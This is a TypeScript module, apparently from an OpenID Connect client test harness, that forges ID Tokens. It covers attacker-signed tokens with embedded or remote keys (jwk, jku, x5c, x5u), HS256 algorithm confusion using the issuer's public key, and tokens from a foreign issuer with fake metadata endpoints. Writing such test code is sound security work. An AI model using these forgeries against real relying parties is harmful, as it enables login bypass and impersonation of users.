import { createPublicKey, type JsonWebKey } from 'node:crypto';
import * as z from 'zod';
import { attackerCertificate, attackerPublicKey, signAsAttacker } from './attacker-key.js';
import { defineQuirk, type IdTokenDraft, type JsonObject, type TapContext } from './quirk.js';

/** What all of these have in common. */
const common = { leg: 'id-token', origin: 'attack', kind: 'tamper', lawful: false } as const;

const embeddedKey = defineQuirk({
  ...common,
  id: 'id-token-embedded-key',
  summary: 'returns an ID Token that an attacker has signed and that says which key to verify it with',
  bends: 'RFC 7515 §10.3, RFC 8725 §3.1, §3.10',
  params: () =>
    z.object({
      by: z
        .enum(['jwk', 'jku', 'x5c', 'x5u', 'hs256-jwk', 'hs256-pem'])
        .default('jwk')
        .describe(
          "the header parameter that holds the key or points at it; hs256 takes the issuer's public key as a secret",
        ),
      sub: z.string().optional().describe('the end-user of the ID Token, if not the right one'),
    }),
  taps: ({ by, sub }) => ({
    idToken(draft, context) {
      if (sub !== undefined) draft.claims['sub'] = sub;
      if (by === 'hs256-jwk' || by === 'hs256-pem') return confuse(draft, by, context);
      signAsAttacker(draft, context.memory);
      draft.header = { ...draft.header, ...keyParameter(by, context) };
    },
  }),
  elsewhere: () => ({
    '/keys': ({ memory }) => ({ status: 200, body: { keys: [attackerPublicKey(memory)] } }),
    '/certificate': ({ memory }) => ({
      status: 200,
      headers: { 'content-type': 'application/pem-certificate-chain' },
      body: pem(attackerCertificate(memory)),
    }),
  }),
  decides: () => ['ID Token: alg', 'ID Token: kid', 'ID Token: signing key'],
});

const foreignIssuer = defineQuirk({
  ...common,
  id: 'id-token-foreign-issuer',
  summary: 'returns an ID Token that another issuer has issued to the same client',
  bends: 'OpenID Connect Core §3.1.3.7, RFC 9700 §4.4',
  params: () =>
    z.object({
      key: z
        .enum(['foreign', 'shared'])
        .default('foreign')
        .describe("the other issuer's key, which its metadata leads to, or one that both issuers sign with"),
    }),
  taps: ({ key }) => ({
    idToken(draft, { elsewhere, memory }) {
      draft.claims['iss'] = elsewhere;
      if (key === 'foreign') signAsAttacker(draft, memory);
    },
  }),
  elsewhere: ({ key }) => ({
    '/.well-known/openid-configuration': foreignMetadata,
    '/.well-known/oauth-authorization-server': foreignMetadata,
    '/jwks': ({ memory, jwkSet }) => ({
      status: 200,
      body: key === 'foreign' ? { keys: [attackerPublicKey(memory)] } : jwkSet(),
    }),
  }),
  decides: ({ key }) => [
    'ID Token: iss',
    ...(key === 'foreign' ? ['ID Token: alg', 'ID Token: kid', 'ID Token: signing key'] : []),
  ],
});

export const idTokenAttackQuirks = [embeddedKey, foreignIssuer] as const;

function keyParameter(by: 'jwk' | 'jku' | 'x5c' | 'x5u', { elsewhere, memory }: TapContext): JsonObject {
  switch (by) {
    case 'jwk':
      return { jwk: attackerPublicKey(memory) };
    case 'jku':
      return { jku: `${elsewhere}/keys` };
    case 'x5c':
      return { x5c: [attackerCertificate(memory).toString('base64')] };
    case 'x5u':
      return { x5u: `${elsewhere}/certificate` };
  }
}

/** A verifier that lets the header choose takes the public key, which everybody knows, for the secret of HMAC. RFC 8725 §2.1 */
function confuse(draft: IdTokenDraft, by: 'hs256-jwk' | 'hs256-pem', { jwkSet }: TapContext): void {
  const [jwk = {}] = jwkSet().keys;
  const secret =
    by === 'hs256-jwk'
      ? JSON.stringify(jwk)
      : createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' }).export({ format: 'pem', type: 'spki' });
  draft.header['alg'] = 'HS256';
  draft.key = { kty: 'oct', k: Buffer.from(secret).toString('base64url') };
}

function pem(certificate: Buffer): string {
  const lines = certificate.toString('base64').match(/.{1,64}/g) ?? [];
  return ['-----BEGIN CERTIFICATE-----', ...lines, '-----END CERTIFICATE-----', ''].join('\n');
}

function foreignMetadata({ elsewhere }: TapContext) {
  return {
    status: 200,
    body: {
      issuer: elsewhere,
      authorization_endpoint: `${elsewhere}/authorize`,
      token_endpoint: `${elsewhere}/token`,
      userinfo_endpoint: `${elsewhere}/userinfo`,
      jwks_uri: `${elsewhere}/jwks`,
      response_types_supported: ['code'],
      subject_types_supported: ['public'],
      id_token_signing_alg_values_supported: ['ES256'],
    },
  };
}
